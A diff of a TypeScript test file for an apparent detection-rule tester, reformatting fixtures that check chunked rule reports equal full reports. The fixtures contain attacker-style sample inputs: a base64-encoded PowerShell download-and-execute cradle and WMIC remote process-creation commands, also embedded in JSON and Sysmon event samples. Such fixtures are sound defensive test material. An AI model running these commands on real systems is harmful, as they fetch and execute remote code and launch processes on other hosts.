@@ -34,13 +34,27 @@ function chunkedReports(detections: Detection[], forms: TesterForm[]) {
 }
 
 const CMD = { ...EMPTY_FORM, cmd: 'wmic /node:10.0.0.5 process call create "cmd.exe /c whoami"', user: "bob" }
-const PS = { ...EMPTY_FORM, cmd: `powershell -enc ${Buffer.from("IEX (New-Object Net.WebClient).DownloadString('http://x/a')", "utf16le").toString("base64")}` }
-const EVENT = { ...EMPTY_FORM, mode: "event" as const, event: '{"Image": "C:\\\\Windows\\\\System32\\\\wbem\\\\WMIC.exe", "CommandLine": "wmic /node:x process call create y"}' }
-const SYSMON = { ...EMPTY_FORM, mode: "event" as const, event: '<Event><System><EventID>1</EventID><Channel>Microsoft-Windows-Sysmon/Operational</Channel></System><EventData><Data Name="Image">C:\\w\\wmic.exe</Data><Data Name="CommandLine">wmic /node:x process call create y</Data></EventData></Event>' }
+const PS = {
+  ...EMPTY_FORM,
+  cmd: `powershell -enc ${Buffer.from("IEX (New-Object Net.WebClient).DownloadString('http://x/a')", "utf16le").toString("base64")}`,
+}
+const EVENT = {
+  ...EMPTY_FORM,
+  mode: "event" as const,
+  event:
+    '{"Image": "C:\\\\Windows\\\\System32\\\\wbem\\\\WMIC.exe", "CommandLine": "wmic /node:x process call create y"}',
+}
+const SYSMON = {
+  ...EMPTY_FORM,
+  mode: "event" as const,
+  event:
+    '<Event><System><EventID>1</EventID><Channel>Microsoft-Windows-Sysmon/Operational</Channel></System><EventData><Data Name="Image">C:\\w\\wmic.exe</Data><Data Name="CommandLine">wmic /node:x process call create y</Data></EventData></Event>',
+}
 
 describe("tester rule chunks", () => {
   it("a report over the chunks an input needs equals the report over every rule", () => {
-    for (const r of chunkedReports(loadCatalog().detections, [CMD, PS, EVENT, SYSMON])) expect(r.chunked).toEqual(r.whole)
+    for (const r of chunkedReports(loadCatalog().detections, [CMD, PS, EVENT, SYSMON]))
+      expect(r.chunked).toEqual(r.whole)
   })
   it("restores the leaf ids it leaves out", () => {
     const rows = testerRules(loadCatalog().detections)
@@ -59,7 +73,9 @@ describe.skipIf(!CORPORA.every((p) => existsSync(p)))("tester rule chunks on bot
     const needed = chunksFor(manifest, [[PROCESS_CREATION]], false)
     const gz = needed.reduce((s, c) => s + gzipSync(files.get(c.file)!).length, 0)
     const all = manifest.chunks.reduce((s, c) => s + gzipSync(files.get(c.file)!).length, 0)
-    console.log(`tester chunks: ${manifest.chunks.length}; a command line needs ${needed.map((c) => c.name).join(", ")}: ${(gz / 1024).toFixed(0)} KB gz of ${(all / 1024).toFixed(0)} KB gz`)
+    console.log(
+      `tester chunks: ${manifest.chunks.length}; a command line needs ${needed.map((c) => c.name).join(", ")}: ${(gz / 1024).toFixed(0)} KB gz of ${(all / 1024).toFixed(0)} KB gz`,
+    )
     expect(gz).toBeLessThanOrEqual(500 * 1024)
     const [r] = chunkedReports(detections, [CMD])
     expect(r!.chunked).toEqual(r!.whole)
